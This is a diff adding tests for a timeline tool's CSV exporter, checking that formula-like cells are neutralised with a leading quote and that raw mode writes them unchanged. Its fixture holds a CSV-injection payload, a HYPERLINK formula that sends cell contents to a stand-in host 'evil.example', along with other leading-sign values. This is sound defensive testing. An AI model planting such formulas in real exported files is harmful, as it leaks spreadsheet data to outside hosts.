@@ -185,6 +185,47 @@ def test_csv_rows_read_back(data: dict[str, Any]) -> None:
     assert text.count("\r\n") == len(ORDER) + 1
 
 
+def _formulas(data: dict[str, Any]) -> dict[str, Any]:
+    """The sample with cells a spreadsheet would run: scraped text can hold anything."""
+    data = copy.deepcopy(data)
+    event = by_id(data)["geneva-talks"]
+    event["summary"] = '=HYPERLINK("http://evil.example/?leak="&A1,"Geneva talks")'
+    event["sentence"] = "-2+3 was the score, the minister said."
+    event["location"]["name"] = "+Geneva"
+    event["actors"][0]["name"] = "@Sherman"
+    event["date_text"] = "\tMonday"
+    event["id"] = "\rgeneva-talks"
+    return data
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(data: dict[str, Any]) -> None:
+    text, _ = render("csv", _formulas(data))
+    rows = list(csv.DictReader(io.StringIO(text, newline="")))
+    (row,) = [r for r in rows if r["id"].endswith("geneva-talks")]
+    assert row["summary"] == '\'=HYPERLINK("http://evil.example/?leak="&A1,"Geneva talks")'
+    assert row["sentence"] == "'-2+3 was the score, the minister said."
+    assert row["location"] == "'+Geneva"
+    assert row["actors"] == "'@Sherman; American; Wendy R. Sherman"
+    assert row["date_text"] == "'\tMonday"
+    assert row["id"] == "'\rgeneva-talks"
+    # Only a leading sign counts: inside a cell it is text to every reader.
+    assert row["date"] == "2022-01-10"
+    assert any(r["summary"] == by_id(data)["meeting-geneve"]["summary"] for r in rows)
+
+
+def test_csv_raw_writes_every_cell_as_it_is(data: dict[str, Any]) -> None:
+    from timeline.exporters.csvfile import CsvExporter
+
+    formulas = _formulas(data)
+    out = io.StringIO()
+    CsvExporter(raw=True).write(formulas, out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    (row,) = [r for r in rows if r["id"] == "\rgeneva-talks"]
+    assert row["summary"] == by_id(formulas)["\rgeneva-talks"]["summary"]
+    assert row["actors"].startswith("@Sherman; ")
+    assert row["date_text"] == "\tMonday"
+
+
 # --- md -----------------------------------------------------------------------------
 
 
